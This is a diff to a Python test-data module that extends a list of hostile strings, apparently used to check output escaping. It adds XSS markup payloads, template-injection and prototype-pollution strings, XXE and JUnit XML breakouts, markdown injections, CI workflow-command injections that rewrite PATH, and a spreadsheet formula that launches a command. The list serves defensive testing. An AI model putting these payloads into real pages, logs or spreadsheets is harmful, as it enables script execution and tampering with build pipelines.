@@ -60,6 +60,153 @@ constructor
 toString
 """.strip().split("\n")
 
+_MORE_MARKUP = r"""
+<ScRiPt>alert(1)</sCrIpT>
+<script/x>alert(1)</script>
+<script
+<scr<script>ipt>alert(1)</scr</script>ipt>
+<script type="module">import("//evil.example/x.js")</script>
+<script type="application/json">{"a": 1}</script>
+<!-- <!-- --> <img src=x onerror=alert(1)> -->
+<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
+<!DOCTYPE html><html><body onload=alert(1)>
+</body></html><script>alert(1)</script>
+</pre><script>alert(1)</script>
+</td></tr></table><img src=x onerror=alert(1)>
+</code></pre><h1>Passed</h1>
+</li></ul><script>alert(1)</script>
+</select><img src=x onerror=alert(1)>
+</svg><script>alert(1)</script>
+</iframe><script>alert(1)</script>
+</xmp><script>alert(1)</script>
+</plaintext><script>alert(1)</script>
+<plaintext>
+<xmp><script>alert(1)</script></xmp>
+<noscript><p title="</noscript><img src=x onerror=alert(1)>">
+<img src=x:x onerror="alert&#40;1&#41;">
+<img/src='x'/onerror=alert(1)>
+<img srcset="//evil.example/x.png 2x">
+<picture><source srcset="//evil.example/x"><img></picture>
+<video src=x onerror=alert(1)></video>
+<video poster="//evil.example/x.png"></video>
+<audio src="//evil.example/x.mp3" autoplay></audio>
+<track src="//evil.example/x.vtt">
+<input autofocus onfocus=alert(1)>
+<input type=image src=//evil.example/x.png>
+<button formaction="javascript:alert(1)">x</button>
+<isindex action="javascript:alert(1)">
+<marquee onstart=alert(1)>
+<select autofocus onfocus=alert(1)><option>x</select>
+<textarea autofocus onfocus=alert(1)>
+<keygen autofocus onfocus=alert(1)>
+<svg/onload=alert(1)>
+<svg><animate onbegin=alert(1) attributeName=x></svg>
+<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
+<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>
+<svg><style>@import "//evil.example/x.css";</style></svg>
+<math href="javascript:alert(1)">x</math>
+<iframe srcdoc="<script>alert(1)</script>"></iframe>
+<frameset onload=alert(1)><frame src=x></frameset>
+<portal src="//evil.example"></portal>
+<applet code=x></applet>
+<meta charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-
+<link rel="prefetch" href="//evil.example/x">
+<link rel="dns-prefetch" href="//evil.example">
+<div style="background:url(//evil.example/x)">x</div>
+<div style="position:fixed;inset:0">x</div>
+<p id="data" name="data">x</p>
+<form id=page><input name=cell></form>
+<a href="data:text/html,<script>alert(1)</script>">x</a>
+<a href="vbscript:x">x</a>
+<template><script>alert(1)</script></template>
+<slot onslotchange=alert(1)></slot>
+<dialog open>Passed</dialog>
+x" style="background:url(//evil.example)
+x' onclick='alert(1)
+x` onclick=`alert(1)
+x onmouseover=alert(1) y=
+\"><script>alert(1)</script>
+\u0022\u003e\u003cimg src=x\u003e
+&lt;img src=x onerror=alert(1)&gt;
+&#x3C;img src=x onerror=alert(1)&#x3E;
+&NewLine;&Tab;&colon;&lpar;
+&notit; &copy &unknown;
+{{constructor.constructor('alert(1)')()}}
+{{ lipsum.__globals__ }}
+#{7*7}
+<#assign x=1>
+[[${7*7}]]
+hasOwnProperty
+valueOf
+__defineGetter__
+{"__proto__": {"x": 1}}
+]]>
+]]><script>alert(1)</script><![CDATA[
+<?php echo 1; ?>
+<!ENTITY x "y">
+&xxe;
+<failure message="x"/></testcase><testcase name="y">
+</system-out></testsuite></testsuites>
+<testsuite tests="0"/>
+""".strip().split("\n")
+
+_MARKDOWN = r"""
+# heading
+## Passed
+> quoted
+- item
+* item
++ item
+1. item
+1) item
+- [x] done
+---
+***
+___
+===
+~~~
+```
+```sh
+``` ` ```
+`code`
+**bold** and __bold__ and *this* and _that_
+~~gone~~
+[x](https://evil.example "t")
+[x]: https://evil.example
+[x][y] [^1]
+[^1]: a note
+![x][y]
+<https://evil.example>
+<someone@evil.example>
+https://evil.example/?a=b
+www.evil.example
+WWW.evil.example
+someone@evil.example
+mailto:someone@evil.example
+@octocat
+@octo-org/everybody
+#1
+octocat/hello#1
+GH-1
+:tada:
+$\frac{1}{2}$
+$$x$$
+$`x`$
+| a | b |
+|---|---|
+a | b
+a \| b
+\
+\\|
+x\
+<details open><summary>x</summary>
+<h1>Passed</h1>
+<br><br><br>
+<sub>x</sub>
+&#64;octocat
+&#124; &vert; &#91;x&#93;(y)
+""".strip("\n").split("\n")
+
 _FORMULAS = """
 =1+1
 =cmd|' /C calc'!A0
@@ -108,6 +255,25 @@ _CI = """
 a ##vso[task.logissue type=error]b
 ##teamcity[testFailed name='x']
 section_start:0:x
+::notice title=x::y
+::debug::x
+::group::x
+::endgroup::
+::echo::on
+::save-state name=x::y
+::add-path::/evil
+::set-env name=PATH::/evil
+::remove-matcher owner=x::
+ ::error::x
+##[command]x
+##[add-mask]x
+##[set-env name=x]y
+##VSO[task.setvariable variable=x]y
+a ##[error]x
+x%0A::error::y
+x%0D%0A::error::y
+name<<end
+name=value
 """.strip("\n").split("\n")
 
 _CONTROLS = [
@@ -123,6 +289,12 @@ _CONTROLS = [
     "\n",
     "\n::error::x",
     "x\n##[error]y",
+    "a\n\n# heading",
+    "a\n```\n<script>alert(1)</script>",
+    "| a |\n|---|\n| b |",
+    "a\n---\nb",
+    "    code",
+    "x  \ny",
     "\n=1+1",
     "\t=1+1",
     "\r=1+1",
@@ -172,4 +344,4 @@ _CONTROLS = [
     "\u3000",
 ]
 
-HOSTILE: tuple[str, ...] = (*_MARKUP, *_FORMULAS, *_CI, *_CONTROLS)
+HOSTILE: tuple[str, ...] = (*_MARKUP, *_MORE_MARKUP, *_MARKDOWN, *_FORMULAS, *_CI, *_CONTROLS)
